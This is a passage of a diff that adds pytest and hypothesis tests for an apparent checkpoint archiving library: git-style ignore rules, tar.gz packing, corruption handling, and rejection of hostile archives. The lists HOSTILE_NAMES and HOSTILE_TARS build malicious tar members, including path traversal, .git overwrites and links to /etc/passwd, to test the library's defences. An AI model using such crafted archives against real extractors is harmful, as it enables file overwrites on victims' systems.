+    return sorted(os.fsdecode(name) for name in done.stdout.split(b"\0") if name)
+
+
+@hypothesis.given(st.lists(IGNORE_PATTERNS, min_size=1, max_size=5),
+                  st.lists(st.lists(st.sampled_from(IGNORE_NAMES_OF_FILES), min_size=1, max_size=4).map("/".join),
+                           min_size=1, max_size=12), st.sampled_from(["\n", "\n", "\r\n"]))
+@hypothesis.settings(max_examples=300)
+@hypothesis.example(["*", "!a"], ["a", "b/a"], "\n")
+@hypothesis.example(["**/a/**/b"], ["a/b", "a/1/b", "1/a/ab/aab/b", "b"], "\n")
+@hypothesis.example(["a\\ ", "b  "], ["a ", "a", "b"], "\n")
+@hypothesis.example(["/a", "b/", "!b/a"], ["a", "1/a", "b/a", "1/b"], "\n")
+@hypothesis.example(["a/*", "!a/b"], ["a/b", "a/1", "1/a/b"], "\n")
+@hypothesis.example(["[!]a-b]", "\\!a", "\\#a"], ["a", "]", "!a", "#a", "1"], "\n")
+def test_ignoring_is_what_git_does(git_repository, patterns, names, end):
+    for entry in os.listdir(str(git_repository)):
+        if entry != ".git":
+            path = git_repository / entry
+            shutil.rmtree(str(path)) if path.is_dir() else path.unlink()
+    for name in names:
+        with contextlib.suppress(OSError):  # a file and a directory of one name
+            fill(git_repository, {name: b""})
+    (git_repository / ".replicateignore").write_bytes(end.join(patterns).encode())
+    assert source_names(git_repository) == git_keeps(git_repository)
+
+
+def test_ignoring_agrees_with_git_check_ignore(git_repository):
+    rules = b"*.log\n!keep.log\nbuild/\n/top\ndocs/**/*.txt\n# comment\n\\#hash\n[Tt]emp?\ntrailing \nspace\\ \n**/deep/x\ndata/*\n!data/k/\n"
+    names = ["a.log", "keep.log", "sub/keep.log", "build/a", "sub/build/b", "buildx", "top", "sub/top", "docs/a.txt",
+             "docs/b/c/d.txt", "docs/e.md", "#hash", "Temp1", "temp", "tempX/y", "trailing", "trailing ", "space", "space ",
+             "deep/x", "p/q/deep/x", "data/a", "data/k/b", "sub/data/a", "# comment"]
+    fill(git_repository, {name: b"" for name in names})
+    for ignore in (".gitignore", ".replicateignore"):
+        (git_repository / ignore).write_bytes(rules)
+    done = subprocess.run(["git", "check-ignore", "-z", "--stdin"], cwd=str(git_repository), capture_output=True,
+                          input="\0".join(names).encode())
+    ignored = {os.fsdecode(name) for name in done.stdout.split(b"\0") if name}
+    assert {"a.log", "build/a", "space ", "data/a", "p/q/deep/x"} <= ignored
+    assert set(source_names(git_repository)) & set(names) == set(names) - ignored
+
+
+def test_ignore_files_of_either_name_in_the_project_and_the_saved_directory(project):
+    fill(project, {".replicateignore": b"*.a\ndata/top\n", ".keepsakeignore": b"*.b\n", "data/.keepsakeignore": b"*.c\n/in\n!x.a\n",
+                   "data/sub/.replicateignore": b"*.d\n"})
+    fill(project / "data", {name: b"" for name in ("x.a", "y.a", "x.b", "x.c", "x.d", "in", "sub/in", "sub/x.c", "sub/x.d", "top")})
+    assert source_names(project, "data") == ["data/.keepsakeignore", "data/sub/.replicateignore", "data/sub/in",
+                                             "data/sub/x.d", "data/x.a", "data/x.d"]
+    assert "data/x.c" in source_names(project) and "data/x.a" not in source_names(project)
+    assert source_names(project, "data/x.b") == ["data/x.b"]
+
+
+def test_what_is_never_saved(project):
+    fill(project, {name: b"x" for name in (
+        "keep.py", ".replicate/storage/x", ".keepsake/x", ".git/config", "sub/.git/config", ".mypy_cache/x", "sub/__pycache__/m.pyc",
+        ".ipynb_checkpoints/n.ipynb", ".env", "sub/.env", ".env.local", ".envrc", "environment/x", "venv/pyvenv.cfg", "venv/lib/m.py",
+        "conda/conda-meta/history", "conda/lib/x", ".replicate-checkout-abc/x", "sub/keep", "git", "repo/repository.json")})
+    assert source_names(project, excluded=[str(project / "repo")]) == [".envrc", "environment/x", "git", "keep.py", "replicate.yaml",
+                                                                      "sub/keep"]
+    for path in (".git", ".git/config", "sub/.env", ".replicate/storage"):
+        with pytest.raises(ValueError, match="never saved"):
+            source_names(project, path)
+
+
+def test_links_fifos_and_sockets(project, tmp_path):
+    import socket
+    fill(tmp_path, {"outside/file": b"outside", "outside/dir/x": b""})
+    fill(project, {"real": b"content", "dir/x": b"x"})
+    os.symlink("real", str(project / "link"))
+    os.symlink(str(tmp_path / "outside/file"), str(project / "far"))
+    os.symlink("dir", str(project / "dirlink"))
+    os.symlink("nowhere", str(project / "dangling"))
+    os.symlink("loop", str(project / "loop"))
+    os.mkfifo(str(project / "fifo"))
+    server = socket.socket(socket.AF_UNIX)
+    server.bind("socket")
+    warnings = []
+    try:
+        names = source_names(project, warnings=warnings)
+    finally:
+        server.close()
+    assert names == ["dir/x", "far", "link", "real", "replicate.yaml"]
+    assert [re.match(r"\w+", warning).group() for warning in warnings] == ["dangling", "dirlink", "loop"]
+    assert "link to a directory" in warnings[1]
+    repository, _ = pack_tree(tmp_path, project)
+    assert read_archive(repository)["link"] == b"content" and read_archive(repository)["far"] == b"outside"
+    with tarfile.open(archive_path(repository)) as archive:
+        assert all(member.isreg() for member in archive)
+
+
+def test_paths_are_relative_to_the_project(project, tmp_path):
+    fill(project, {"a/b": b""})
+    fill(tmp_path, {"outside": b""})
+    os.symlink(str(project), str(tmp_path / "linked"))
+    relative = lambda path: replicate.relative_path(path, str(project))  # noqa: E731
+    for path, wanted in [("a", "a"), ("a/", "a"), ("./a/../a/b", "a/b"), (".", "."), (str(project / "a"), "a"), (Path("a/b"), "a/b"),
+                         (str(project), "."), (str(tmp_path / "linked/a/b"), "a/b"), ("../project/a", "a")]:
+        assert relative(path) == wanted
+    for path in ("", "..", "../outside", str(tmp_path / "outside"), "/", "missing", "a/missing", "a\0b"):
+        with pytest.raises(ValueError):
+            relative(path)
+    for path in (None, 3, b"a", ["a"]):
+        with pytest.raises((TypeError, ValueError)):
+            relative(path)
+
+
+def sample_tree(project):
+    """Files of all sorts: empty, small, larger than a gzip member, with and without redundancy, with odd names."""
+    noise = os.urandom(1 << 20)
+    files = {"empty": b"", "small.py": b"print(1)\n" * 30, "sub/deep/er/x": b"x", "noise.bin": noise * 9 + b"!",
+             "zeros.bin": bytes(13 << 20), "text.txt": b"The quick brown fox.\n" * 300000, "n" * 200 + "/" + "m" * 150: b"long",
+             "\u4e2d\u6587 \U0001f600": b"name", "exact": noise * 4, "one more": noise * 4 + b"1", b"bytes\xff\xfe": b"latin",
+             "new\nline": b"n", "-dash": b"-", " space ": b"s"}
+    fill(project, files)
+    (project / "replicate.yaml").unlink()
+    os.chmod(str(project / "small.py"), 0o755)
+    return {os.fsdecode(name): content for name, content in files.items()}
+
+
+@pytest.mark.parametrize("compress", [True, False])
+def test_archives_read_back_by_everyone(project, tmp_path, compress):
+    files = sample_tree(project)
+    repository, writer = pack_tree(tmp_path, project, compress=compress)
+    path = archive_path(repository)
+    assert len(writer.table.members) > 8
+    assert sorted(name for name, _, _ in repository.archive("checkpoints", PACKED_ID).table.files) == sorted(files)
+    assert read_archive(repository) == files
+    for name, content in files.items():
+        assert read_one(repository, name) == content
+    assert read_one(repository, "missing") is None and read_one(repository, "sub") is None
+    subprocess.run(["gzip", "-t", path], check=True)
+    with tarfile.open(path, errors="surrogateescape") as archive:
+        assert {member.name[65:]: archive.extractfile(member).read() for member in archive} == files
+    with gzip.open(path) as stream:
+        assert len(stream.read()) == sum(size for _, size in writer.table.members)
+    target = tmp_path / "unpacked"
+    target.mkdir()
+    subprocess.run(["tar", "xzf", path, "-C", str(target)], check=True)
+    assert tree(target / PACKED_ID) == files
+    assert os.stat(str(target / PACKED_ID / "small.py")).st_mode & 0o777 == 0o755
+    assert os.stat(path).st_size < 32 << 20 if compress else os.stat(path).st_size > 35 << 20
+
+
+def test_recompressing_keeps_the_content_and_shrinks_what_shrinks(project, tmp_path):
+    files = sample_tree(project)
+    repository, writer = pack_tree(tmp_path, project, compress=False)
+    path = archive_path(repository)
+    reader = repository.archive("checkpoints", PACKED_ID)
+    with open(path + ".new", "wb", 0) as file:
+        replicate.recompress(reader, file, writer.shrinkable)
+    before = os.stat(path).st_size
+    os.replace(path + ".new", path)
+    assert os.stat(path).st_size < before - (18 << 20)
+    assert read_archive(repository) == files
+    assert all(read_one(repository, name) == content for name, content in files.items())
+    subprocess.run(["gzip", "-t", path], check=True)
+    again, _ = pack_tree(tmp_path, project, compress=True, name="again")
+    assert Path(archive_path(again)).read_bytes() == Path(path).read_bytes()
+
+
+def test_a_table_that_spans_several_fields(project, tmp_path):
+    names = ["%s/%s" % (os.urandom(2).hex(), os.urandom(40).hex()) for _ in range(4000)]
+    fill(project, {name: name[:4].encode() for name in names})
+    repository, writer = pack_tree(tmp_path, project)
+    assert writer.table.encode().count(replicate.GZIP_EXTRA_HEADER) >= 3
+    assert len(writer.table.encode()) > 2 * 65535
+    archive = repository.archive("checkpoints", PACKED_ID)
+    assert archive.table is not None and {name for name, _, _ in archive.table.files} == set(names) | {"replicate.yaml"}
+    for name in names[::500]:
+        assert read_one(repository, name) == name[:4].encode()
+    subprocess.run(["gzip", "-t", archive_path(repository)], check=True)
+    with tarfile.open(archive_path(repository)) as stream:
+        assert len(stream.getnames()) == 4001
+
+
+class CountingStorage(replicate.DiskStorage):
+    """A directory that counts the bytes that are read from it."""
+
+    count = 0
+    pin = replicate.Storage.pin
+
+    def open(self, key, *range):
+        stream, storage = super().open(key, *range), self
+
+        class Counted:
+            def read(self, size=-1):
+                data = stream.read(size)
+                storage.count += len(data)
+                return data
+
+            def close(self):
+                getattr(stream, "close", lambda: None)()  # a range of a file that others keep open has none
+
+            def __enter__(self):
+                return self
+
+            def __exit__(self, *exc_info):
+                self.close()
+
+        return Counted()
+
+
+def test_reading_one_file_touches_few_bytes(project, tmp_path):
+    fill(project, {"a%d" % number: os.urandom(5 << 20) for number in range(6)})
+    fill(project, {"m/%03d" % number: b"%d" % number * 100 for number in range(300)})
+    repository, _ = pack_tree(tmp_path, project)
+    size = os.stat(archive_path(repository)).st_size
+    assert size > 30 << 20
+    storage = repository.storage = CountingStorage(repository.storage.root)
+    assert read_one(repository, "m/123") == b"123" * 100
+    assert storage.count < 1 << 20
+    storage.count = 0
+    assert len(read_one(repository, "a3")) == 5 << 20
+    assert storage.count < 14 << 20
+    storage.count = 0
+    assert len(read_archive(repository)) == 307
+    assert storage.count < size + (1 << 20)
+
+
+def test_files_with_very_long_names_are_read_singly(project, tmp_path):
+    part = "/".join(["d" * 250] * 13)
+    name = part + "/" + "x" * 100
+    os.makedirs(str(project / part))
+    content = os.urandom((4 << 20) - 4400)
+    try:
+        fill(project, {name: content})
+    except OSError:
+        pytest.skip("such names are too long here")
+    repository, _ = pack_tree(tmp_path, project, "d" * 250)
+    assert read_archive(repository) == {name: content}
+    assert read_one(repository, name) == content
+
+
+def test_a_file_that_changes_its_size_while_it_is_saved(project, tmp_path):
+    fill(project, {"a": b"a" * 1000, "b": b"b" * 1000, "c": b"c" * 10, "d": b"d"})
+    sources = replicate.find_sources(str(project), ".")
+    fill(project, {"a": b"a" * 10, "b": b"b" * 5000})
+    (project / "c").unlink()
+    warnings = []
+    repository = store_bytes(tmp_path, b"")
+    with open(archive_path(repository), "wb", 0) as file:
+        replicate.pack(file, PACKED_ID, sources, True, warnings.append)
+    files = read_archive(repository)
+    assert files["a"] == b"a" * 10 + bytes(990) and files["b"] == b"b" * 1000 and files["d"] == b"d" and "c" not in files
+    assert [warning.split()[0] for warning in warnings] == ["a", "c"]
+    subprocess.run(["tar", "tzf", archive_path(repository)], check=True, stdout=subprocess.DEVNULL)
+
+
+def small_archive(project, tmp_path):
+    """An archive of several gzip members with a table, a few kilobytes long; returns (repository, files, bytes)."""
+    files = {"a": b"alpha " * 50, "sub/b": bytes(number * number * 7919 >> 5 & 255 for number in range(700)), "sub/c": b"gamma" * 20, "z": b"omega" * 100}
+    fill(project, files)
+    (project / "replicate.yaml").unlink()
+    sources = replicate.find_sources(str(project), ".")
+    file = io.BytesIO()
+    file.fileno = None
+    writer = replicate.ArchiveWriter(file)
+    for source in sources:
+        source.modified = 1136214245
+    for source in sources:  # one gzip member a file, as pack makes them of larger files
+        chunk = b"".join(replicate.tar_chunks(PACKED_ID, [source], [], pytest.fail))[:-1024]
+        writer.table.files.append((source.name, sum(size for _, size in writer.table.members), source.size))
+        size, parts, _ = replicate.gzip_chunk(chunk)
+        writer.table.members.append((sum(map(len, parts)), size))
+        file.write(b"".join(parts))
+    size, parts, _ = replicate.gzip_chunk(bytes(1024))
+    writer.table.members.append((sum(map(len, parts)), size))
+    file.write(b"".join(parts) + writer.table.encode())
+    data = file.getvalue()
+    repository = store_bytes(tmp_path, data)
+    assert repository.archive("checkpoints", PACKED_ID).table is not None
+    assert read_archive(repository) == files
+    return repository, files, data
+
+
+def answers(repository, files):
+    """What a damaged archive gives: the right content or a ReadError, singly and all together."""
+    try:
+        assert read_archive(repository) == files
+    except replicate.ReadError as error:
+        assert "ababab" in str(error)
+    for name, content in files.items():
+        with contextlib.suppress(replicate.ReadError):
+            assert read_one(repository, name) == content
+
+
+def test_every_truncation_is_a_read_error_or_harmless(project, tmp_path):
+    repository, files, data = small_archive(project, tmp_path)
+    for length in range(len(data)):
+        Path(archive_path(repository)).write_bytes(data[:length])
+        try:
+            assert read_archive(repository) == files, length
+        except replicate.ReadError:
+            pass
+
+
+def test_every_flipped_bit_is_a_read_error_or_harmless(project, tmp_path):
+    repository, files, data = small_archive(project, tmp_path)
+    for position in range(len(data)):
+        damaged = bytearray(data)
+        damaged[position] ^= 1 << (position % 8)
+        Path(archive_path(repository)).write_bytes(damaged)
+        answers(repository, files)
+
+
+def with_table(data, members, files):
+    """The archive with another table of contents."""
+    start = int.from_bytes(data[-len(replicate.GZIP_EMPTY_BODY) - 16:-len(replicate.GZIP_EMPTY_BODY) - 8], "little")
+    table = replicate.Table(members, files).encode()
+    return data[:start] + table
+
+
+def test_a_lying_table_never_shows_wrong_content(project, tmp_path):
+    repository, files, data = small_archive(project, tmp_path)
+    table = repository.archive("checkpoints", PACKED_ID).table
+    offsets = {name: offset for name, offset, _ in table.files}
+    lies = [(table.members, [(name, offsets["a"], size) for name, _, size in table.files]),
+            (table.members, [(name, offset + 512, size) for name, offset, size in table.files]),
+            (table.members, [(name, -512, size) for name, _, size in table.files]),
+            (table.members, [(name, 1 << 60, size) for name, _, size in table.files]),
+            (table.members, [(name, offset, 0) for name, offset, _ in table.files]),
+            (table.members, [(name, offset, -5000) for name, offset, _ in table.files]),
+            (table.members, [(name, offset, 1 << 60) for name, offset, _ in table.files]),
+            (table.members, []), (table.members, [("elsewhere", 0, 5)] + table.files),
+            ([(compressed, size + 1) for compressed, size in table.members], table.files),
+            ([(compressed, 1) for compressed, _ in table.members], table.files),
+            ([(sum(compressed for compressed, _ in table.members), sum(size for _, size in table.members))], table.files),
+            ([(compressed, size) for (compressed, _), (_, size) in zip(table.members, table.members[::-1])], table.files),
+            ([(table.members[0][0] + 1, table.members[0][1]), (table.members[1][0] - 1, table.members[1][1])] + table.members[2:],
+             table.files)]
+    for members, entries in lies:
+        Path(archive_path(repository)).write_bytes(with_table(data, members, entries))
+        assert read_archive(repository) == files
+        for name, content in files.items():
+            with contextlib.suppress(replicate.ReadError):
+                assert read_one(repository, name) == content
+        assert read_one(repository, "elsewhere") is None
+
+
+@pytest.mark.parametrize("content", [
+    b"", b"null", b"[]", b"{}", b'"members"', b'{"members": 1, "files": []}', b'{"members": [[1]], "files": []}',
+    b'{"members": [], "files": [["a", 1e999, 0]]}', b'{"members": [["x", 1]], "files": []}', b"\xff", b"[" * 50000,
+    b'{"members": [], "files": {"abc": 1}}', b'{"members": [], "files": [["a", null, 0]]}', b"9" * 6000,
+    b'{"members": [], "files": [["a", 0, ' + b"9" * 6000 + b"]]}"])
+def test_a_table_of_nonsense_is_not_believed(project, tmp_path, content):
+    repository, files, data = small_archive(project, tmp_path)
+    start = sum(compressed for compressed, _ in repository.archive("checkpoints", PACKED_ID).table.members)
+    for packed in (zlib.compress(content), content, zlib.compress(content)[:-3]):
+        chain = replicate._extra_member(packed)
+        footer = replicate._extra_member(start.to_bytes(8, "little") + len(chain).to_bytes(8, "little"))
+        Path(archive_path(repository)).write_bytes(data[:start] + chain + footer)
+        answers(repository, files)
+    for footer in (bytes(16), b"\xff" * 16, start.to_bytes(8, "little") + bytes(8), (start + 1).to_bytes(8, "little") * 2):
+        Path(archive_path(repository)).write_bytes(data[:start] + replicate._extra_member(footer))
+        answers(repository, files)
+
+
+def test_a_table_of_very_many_empty_fields_is_passed_over(project, tmp_path):
+    repository, files, data = small_archive(project, tmp_path)
+    start = sum(compressed for compressed, _ in repository.archive("checkpoints", PACKED_ID).table.members)
+    chain = replicate._extra_member(b"") * 800000
+    footer = replicate._extra_member(start.to_bytes(8, "little") + len(chain).to_bytes(8, "little"))
+    Path(archive_path(repository)).write_bytes(data[:start] + chain + footer)
+    assert repository.archive("checkpoints", PACKED_ID).table is None
+
+
+@hypothesis.given(st.data())
+@hypothesis.settings(max_examples=300)
+def test_mutated_archives_give_the_right_content_or_a_read_error(tmp_path_factory, data):
+    tmp_path = tmp_path_factory.getbasetemp() / "mutated"
+    project = tmp_path / "project"
+    if not project.exists():
+        project.mkdir(parents=True)
+    shutil.rmtree(str(project))
+    fill(project, {"replicate.yaml": b""})
+    repository, files, packed = small_archive(project, tmp_path)
+    damaged = bytearray(packed)
+    for _ in range(data.draw(st.integers(1, 4))):
+        position = data.draw(st.integers(0, max(0, len(damaged) - 1)))
+        damaged[position:position + data.draw(st.integers(0, 3))] = data.draw(st.binary(max_size=3))
+    Path(archive_path(repository)).write_bytes(damaged)
+    answers(repository, files)
+
+
+@hypothesis.given(st.binary(max_size=200), st.sampled_from([b"", replicate.GZIP_HEADER, replicate.GZIP_EXTRA_HEADER, b"\x1f\x8b"]))
+def test_arbitrary_bytes_are_read_errors(tmp_path_factory, data, head):
+    repository = store_bytes(tmp_path_factory.getbasetemp() / "arbitrary", head + data)
+    with contextlib.suppress(replicate.ReadError):
+        assert read_archive(repository) == {}
+
+
+@pytest.mark.parametrize("data", [b"x", b"\x1f\x8b", b"PK\x03\x04" + bytes(600), gzip.compress(b"x" * 2000), gzip.compress(b"x" * 100),
+                                  gzip.compress(bytes(512) + b"x")[:-1], gzip.compress(bytes(1024))[:-4]], ids="text magic zip xs short torn cut".split())
+def test_what_is_no_archive_is_a_read_error(tmp_path, data):
+    with pytest.raises(replicate.ReadError, match="checkpoint ababab"):
+        read_archive(store_bytes(tmp_path, data))
+
+
+def tar_block(name, content=b"", kind=tarfile.REGTYPE, size=None, link="", pax=None, form=tarfile.GNU_FORMAT, mode=0o644):
+    """One member of a tar as bytes; name may be anything."""
+    member = tarfile.TarInfo(name)
+    member.type, member.linkname, member.mode = kind, link, mode
+    member.size = len(content) if size is None else size
+    if pax:
+        member.pax_headers = pax
+        form = tarfile.PAX_FORMAT
+    return member.tobuf(form, "utf-8", "surrogateescape") + content + bytes(-len(content) % 512)
+
+
+def raw_header(**fields):
+    """A header block with these bytes at their places and a right checksum."""
+    block = bytearray(tar_block(PACKED_ID + "/a")[:512])
+    for place, value in fields.items():
+        start = {"name": 0, "mode": 100, "size": 124, "type": 156, "prefix": 345}[place]
+        block[start:start + len(value)] = value
+    block[148:156] = b" " * 8
+    block[148:156] = b"%06o\0 " % sum(block)
+    return bytes(block)
+
+
+def pax_record(key, value):
+    body = b" " + key + b"=" + value + b"\n"
+    length = len(body)
+    while len(b"%d" % length + body) != length:
+        length = len(b"%d" % length + body)
+    return b"%d" % length + body
+
+
+def pax_block(*records, kind=tarfile.XHDTYPE):
+    return tar_block("pax", b"".join(records), kind)
+
+
+HOSTILE_NAMES = [
+    "/etc/evil", "../evil", "{id}/../evil", "{id}/../../evil", "{id}/a/../../evil", "{id}/./evil", "{id}//evil", "evil", "other/evil",
+    "{id}x/evil", "/{id}/evil", "./{id}/evil", "{id}\\evil", "{id}/a\\..\\..\\evil", "{id}/C:evil", "{id}/c:/evil", "{id}/.git/config",
+    "{id}/.GIT/config", "{id}/sub/.gIt/hooks/x", "{id}/.git", "{id}/.git./config", "{id}/.git /config", "{id}/git~1/config",
+    "{id}/.g\u200cit/config", "{id}/.git::$INDEX_ALLOCATION/config", "{id}/.replicate/storage/x", "{id}/.Replicate/x",
+    "{id}/.replicate", "{id}/" + "x" * 300, "", "/", "{id}/..", "{id}/a/.."]
+
+
+@pytest.mark.parametrize("name", HOSTILE_NAMES)
+@pytest.mark.parametrize("how", ["plain", "directory", "gnu long name", "pax path"])
+def test_dangerous_names_are_read_errors(tmp_path, name, how):
+    name = name.replace("{id}", PACKED_ID)
+    good = tar_block(PACKED_ID + "/good", b"good")
+    if how == "plain":
+        block = tar_block(name, b"evil")
+    elif how == "directory":
+        block = tar_block(name, b"", tarfile.DIRTYPE)
+    elif how == "gnu long name":
+        block = tar_block("././@LongLink", name.encode() + b"\0", tarfile.GNUTYPE_LONGNAME) + tar_block(PACKED_ID + "/x", b"evil")
+    else:
+        block = pax_block(pax_record(b"path", name.encode())) + tar_block(PACKED_ID + "/x", b"evil")
+    repository = store_bytes(tmp_path, gzip.compress(good + block + bytes(1024)))
+    target = tmp_path / "target"
+    target.mkdir()
+    before = set(tree(tmp_path))
+    with pytest.raises(replicate.ReadError):
+        unpack_all(repository, target)
+    assert set(tree(tmp_path)) - before <= {"target/good"}
+
+
+def unpack_all(repository, target):
+    with replicate.reading_archive(repository, "checkpoints", PACKED_ID):
+        archive = repository.archive("checkpoints", PACKED_ID)
+        return replicate.unpack_to(str(target), archive.files(lambda name: True, PACKED_ID))
+
+
+@pytest.mark.parametrize("kind", [tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.BLKTYPE, tarfile.FIFOTYPE,
+                                  tarfile.GNUTYPE_SPARSE, b"D", b"M", b"V", b"Z", b"\xff", tarfile.CONTTYPE])
+def test_members_that_are_no_plain_files_are_read_errors(tmp_path, kind):
+    header = bytearray(tar_block(PACKED_ID + "/x", b"", tarfile.SYMTYPE, link="/etc/passwd"))
+    header[156:157] = kind
+    header[148:156] = b" " * 8
+    header[148:156] = b"%06o\0 " % sum(header)
+    repository = store_bytes(tmp_path, gzip.compress(bytes(header) + bytes(1024)))
+    target = tmp_path / "target"
+    target.mkdir()
+    with pytest.raises(replicate.ReadError):
+        unpack_all(repository, target)
+    assert os.listdir(str(target)) == []
+
+
+HOSTILE_TARS = {
+    "a name through a link": tar_block(PACKED_ID + "/d", kind=tarfile.SYMTYPE, link="..") + tar_block(PACKED_ID + "/d/evil", b"evil"),
+    "a file below a file": tar_block(PACKED_ID + "/d", b"file") + tar_block(PACKED_ID + "/d/evil", b"evil"),
+    "a file in place of a directory": tar_block(PACKED_ID + "/d/x", b"file") + tar_block(PACKED_ID + "/d", b"evil"),
+    "a file in place of the folder": tar_block(PACKED_ID, b"evil"),
+    "a negative size": raw_header(size=b"\xff" * 12) + b"x" * 512,
+    "a negative size of an extended header": raw_header(size=b"\xff" * 12, type=b"x") + b"x" * 512,
+    "a size that is no number": raw_header(size=b"zzzzzzzzzzz\0"),
+    "an enormous size": raw_header(size=b"\x80" + b"\x7f" * 11) + b"x" * 512,
+    "an enormous extended header": raw_header(size=b"77777777777\0", type=b"x"),
+    "an enormous long name": raw_header(size=b"77777777777\0", type=b"L"),
+    "a wrong checksum": tar_block(PACKED_ID + "/x")[:148] + b"0000000\0" + tar_block(PACKED_ID + "/x")[156:512],
+    "a negative pax size": pax_block(pax_record(b"size", b"-512")) + tar_block(PACKED_ID + "/x", b"x"),
+    "a pax size that is no number": pax_block(pax_record(b"size", b"1e3")) + tar_block(PACKED_ID + "/x", b"x"),
+    "a pax size in other digits": pax_block(pax_record(b"size", "\u0661".encode())) + tar_block(PACKED_ID + "/x", b"x"),
+    "a pax record of wrong length": tar_block("pax", b"99 path=x\n", tarfile.XHDTYPE) + tar_block(PACKED_ID + "/x", b"x"),
+    "a pax record of no length": tar_block("pax", b"0 path=x\n", tarfile.XHDTYPE) + tar_block(PACKED_ID + "/x", b"x"),
+    "pax of nonsense": tar_block("pax", b"nonsense", tarfile.XHDTYPE) + tar_block(PACKED_ID + "/x", b"x"),
+    "a sparse pax member": pax_block(pax_record(b"GNU.sparse.major", b"1"), pax_record(b"GNU.sparse.minor", b"0"),
+                                     pax_record(b"GNU.sparse.name", b"../../evil")) + tar_block(PACKED_ID + "/x", b"1\n0\n0\n"),
+    "a sparse map": pax_block(pax_record(b"GNU.sparse.map", b"0,1")) + tar_block(PACKED_ID + "/x", b"x"),
+    "a null in a long name": tar_block("L", (PACKED_ID + "/a\0/../b").encode(), tarfile.GNUTYPE_LONGNAME) + tar_block(PACKED_ID + "/x"),
+    "a null in a pax name": pax_block(pax_record(b"path", PACKED_ID.encode() + b"/a\0b")) + tar_block(PACKED_ID + "/x"),
+    "a prefix that leaves": raw_header(name=b"evil\0", prefix=b"../..\0"),
+    "the end in the middle of a file": tar_block(PACKED_ID + "/x", b"x" * 5000)[:2048],
+    "the end in the middle of a header": tar_block(PACKED_ID + "/x", b"x") + tar_block(PACKED_ID + "/y")[:100],
+}
+
+
+@pytest.mark.parametrize("name", sorted(HOSTILE_TARS))
+def test_hostile_tars_are_read_errors(tmp_path, name):
+    end = b"" if name.startswith("the end") else bytes(1024)
+    repository = store_bytes(tmp_path, gzip.compress(HOSTILE_TARS[name] + end))
+    target = tmp_path / "store" / "a" / "target"
+    target.mkdir(parents=True)
+    before = set(tree(tmp_path))
+    with pytest.raises(replicate.ReadError):
+        unpack_all(repository, target)
+    assert not [path for path in set(tree(tmp_path)) - before if not path.startswith("store/a/target/")]
+    assert not [path for path in target.rglob("*") if path.is_symlink()]
+
+
+def test_set_user_id_bits_are_dropped(tmp_path):
+    repository = store_bytes(tmp_path, gzip.compress(tar_block(PACKED_ID + "/x", b"x", mode=0o6777) +
+                                                     tar_block(PACKED_ID + "/y", b"y", mode=0) + bytes(1024)))
+    written = unpack_all(repository, tmp_path / "target")
+    assert os.stat(written["x"]).st_mode & 0o7777 == 0o755 and os.stat(written["y"]).st_mode & 0o7777 == 0o600
+
+
+def test_unpacking_is_never_through_a_link_in_the_archive_or_out_of_it(tmp_path):
+    """A name that our reader takes for harmless is taken so by the file system too."""
+    names = ["a", "b/c", "..a", "a..", "...", "~", "$HOME", "%2e%2e", "\u2025", "\uff0e\uff0e", " ", "ab:c", ".gitignore", ".github/x"]
+    repository = store_bytes(tmp_path, gzip.compress(b"".join(tar_block("%s/%s" % (PACKED_ID, name), b"x") for name in names) +
+                                                     bytes(1024)))
+    unpack_all(repository, tmp_path / "target")
+    assert sorted(tree(tmp_path / "target")) == sorted(names)
+
+
+@pytest.mark.parametrize("form", [tarfile.USTAR_FORMAT, tarfile.GNU_FORMAT, tarfile.PAX_FORMAT])
+def test_archives_of_other_programs_are_read(tmp_path, form):
+    files = {"a": b"a", "sub/b": os.urandom(3000), "d" * 60 + "/" + "e" * 90: b"long", "empty": b"", "big": bytes(5 << 20)}
+    if form != tarfile.USTAR_FORMAT:
+        files.update({"f" * 150 + "/" + "g" * 150: b"longer", "\u4e2d" * 40: b"unicode", "tail " * 30: b"blank"})
+    repository = store_bytes(tmp_path, b"")
+    with tarfile.open(archive_path(repository), "w:gz", format=form) as archive:
+        for name in ("", "/sub", "/" + "d" * 60):
+            directory = tarfile.TarInfo(PACKED_ID + name)
+            directory.type = tarfile.DIRTYPE
+            archive.addfile(directory)
+        for name, content in files.items():
+            member = tarfile.TarInfo("%s/%s" % (PACKED_ID, name))
+            member.size, member.mtime = len(content), 1136214245.25
+            archive.addfile(member, io.BytesIO(content))
+    assert read_archive(repository) == files
+    assert all(read_one(repository, name) == content for name, content in files.items())
+    assert repository.archive("checkpoints", PACKED_ID).table is None
+
+
+def test_archives_of_gnu_tar_in_several_gzip_members_are_read(tmp_path):
+    files = {"a": b"a" * 3000, "b/c": os.urandom(5000), "x" * 60 + "/" + "y" * 70: b"long"}
+    fill(tmp_path / PACKED_ID, files)
+    for form in ("gnu", "pax", "ustar"):
+        done = subprocess.run(["tar", "c", "--format=" + form, PACKED_ID], cwd=str(tmp_path), check=True, capture_output=True)
+        data = done.stdout
+        for pieces in ([data], [data[:700], data[700:701], b"", data[701:]]):
+            packed = b"".join(gzip.compress(piece) for piece in pieces)
+            assert read_archive(store_bytes(tmp_path, packed)) == files
+            assert read_archive(store_bytes(tmp_path, packed + bytes(512))) == files
+
+
+def test_of_two_members_of_one_name_the_last_counts(tmp_path):
+    data = gzip.compress(tar_block(PACKED_ID + "/x", b"old") + tar_block(PACKED_ID + "/x", b"new") + bytes(1024))
+    repository = store_bytes(tmp_path, data)
+    written = unpack_all(repository, tmp_path / "target")
+    assert Path(written["x"]).read_bytes() == b"new"
+    assert read_one(repository, "x") == b"new"
+
+
+def test_a_pax_path_holds_for_its_own_member_only(tmp_path):
+    tar = (pax_block(pax_record(b"path", (PACKED_ID + "/renamed").encode()), pax_record(b"size", b"3"), pax_record(b"comment", b"a=b\nc")) +
+           tar_block(PACKED_ID + "/x", b"one", size=0)[:512] + b"one" + bytes(509) + tar_block(PACKED_ID + "/y", b"two") + bytes(1024))
+    assert read_archive(store_bytes(tmp_path, gzip.compress(tar))) == {"renamed": b"one", "y": b"two"}
+
+
+@hypothesis.given(st.data())
+@hypothesis.settings(max_examples=300)
+def test_mutated_tars_write_nothing_outside(tmp_path_factory, data):
+    base = tmp_path_factory.getbasetemp() / "mutated-tars"
+    shutil.rmtree(str(base), ignore_errors=True)
+    blocks = [tar_block(PACKED_ID + "/a", b"a"), tar_block(PACKED_ID + "/sub/b", b"b" * 600), HOSTILE_TARS["a name through a link"],
+              pax_block(pax_record(b"path", (PACKED_ID + "/renamed").encode())), tar_block("../evil", b"evil"),
